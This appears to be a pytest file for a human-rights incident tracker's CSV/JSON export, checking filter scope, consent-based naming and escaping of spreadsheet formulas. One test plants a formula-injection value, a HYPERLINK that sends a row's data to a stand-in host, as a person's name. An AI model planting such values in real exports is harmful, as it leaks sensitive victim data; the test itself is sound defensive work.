"""Bulk export of the incidents a filter shows, as CSV and JSON for analysis: only what the
filter shows, names only where the person agreed to be named, no narrative, a partial file never
left behind."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from pytestqt.qtbot import QtBot

from desktop.domain.dates import PartialDate
from desktop.domain.records import Act, Consent, ConsentLevel, Incident, IncidentStatus, Person
from desktop.store.profile import Profile
from desktop.store.records import RecordStore
from desktop.store.spaces import local_spaces
from desktop.ui.incidents.page import IncidentsPage

WAIT = 10_000


def _incidents(profile: Profile) -> None:
    store = RecordStore(profile.engine)
    space = local_spaces(store).network.id
    named = Person(space_id=space, name="Rosa Quispe", alias="R. Q.")
    anonymous = Person(space_id=space, name="Amina Haddad", alias="")
    unasked = Person(space_id=space, name="Luis Mamani", alias="L. M.")
    verified = Incident(
        space_id=space,
        title="Desalojo en Cochabamba",
        country="bo",
        status=IncidentStatus.VERIFIED,
        start_date=PartialDate(2024, 3),
        narrative="Rosa Quispe y Luis Mamani fueron desalojados.",
        rights=("housing",),
        consents=(
            Consent(person_id=named.id, level=ConsentLevel.SHARE_WITH_NAME),
            Consent(person_id=anonymous.id, level=ConsentLevel.SHARE_ANONYMOUSLY),
        ),
    )
    draft = Incident(space_id=space, title="Borrador sin verificar", country="pe")
    acts = [
        Act(space_id=space, incident_id=verified.id, victim_id=p.id, act_type="forced_eviction")
        for p in (named, anonymous, unasked)
    ]
    store.save_all([named, anonymous, unasked, verified, draft, *acts])


@pytest.mark.parametrize("file_format", ["csv", "json"])
def test_export_writes_what_the_filter_shows_with_names_only_by_consent(
    profile: Profile, page: IncidentsPage, qtbot: QtBot, tmp_path: Path, file_format: str
) -> None:
    _incidents(profile)
    page.model.refresh()
    qtbot.waitUntil(lambda: page.model.total == 2, timeout=WAIT)
    page.filters.status.set_code("verified")
    qtbot.waitUntil(lambda: page.model.total == 1 and not page.model.busy, timeout=WAIT)

    path = tmp_path / f"incidentes.{file_format}"
    with qtbot.waitSignal(page.exported, timeout=WAIT) as exported:
        page.export_to(path, file_format)
    assert exported.args == [1]
    assert "1 incident exported" in page.message.text()
    assert not path.with_name(path.name + ".part").exists()

    text = path.read_text(encoding="utf-8")
    if file_format == "csv":
        (row,) = csv.DictReader(text.splitlines())
        victims = row["victims"].split("; ")
        assert (row["status"], row["country"]) == ("verified", "bo")
        assert row["start_date"] == "2024-03" and row["rights"] == "housing"
    else:
        (row,) = json.loads(text)
        victims = row["victims"]
    assert victims == ["Rosa Quispe", "Name withheld", "L. M."]
    assert "Amina Haddad" not in text and "Luis Mamani" not in text
    assert "desalojados" not in text  # the narrative can name anyone: left out
    assert "Cochabamba" not in text  # and so can a title
    assert "Borrador" not in text  # not shown by the filter, not exported


def test_a_cell_a_spreadsheet_would_run_is_kept_as_text(
    profile: Profile, page: IncidentsPage, qtbot: QtBot, tmp_path: Path
) -> None:
    # The CSV is opened in a spreadsheet for analysis, and its names and places come from
    # other members through sync: a cell starting with = + - @ (or a tab or carriage return) is
    # a formula there ('=HYPERLINK("https://…?"&A1)' sends the row away). Each such cell
    # starts with an apostrophe, which spreadsheets read as "this is text" (OWASP's advice).
    store = RecordStore(profile.engine)
    space = local_spaces(store).network.id
    formula = '=HYPERLINK("https://example.org/?"&A1,"Ver")'
    planted = Person(space_id=space, name=formula, alias="")
    incident = Incident(
        space_id=space,
        title="Amenaza",
        country="co",
        place="@SUM(1+1)",
        consents=(Consent(person_id=planted.id, level=ConsentLevel.SHARE_WITH_NAME),),
    )
    act = Act(
        space_id=space, incident_id=incident.id, victim_id=planted.id, act_type="forced_eviction"
    )
    store.save_all([planted, incident, act])
    page.model.refresh()
    qtbot.waitUntil(lambda: page.model.total == 1 and not page.model.busy, timeout=WAIT)
    path = tmp_path / "incidentes.csv"
    with qtbot.waitSignal(page.exported, timeout=WAIT):
        page.export_to(path, "csv")
    (row,) = csv.DictReader(path.read_text(encoding="utf-8").splitlines())
    assert row["victims"] == "'" + formula
    assert row["place"] == "'@SUM(1+1)"
    assert row["country"] == "co" and row["start_date"] == ""  # ordinary cells as they were
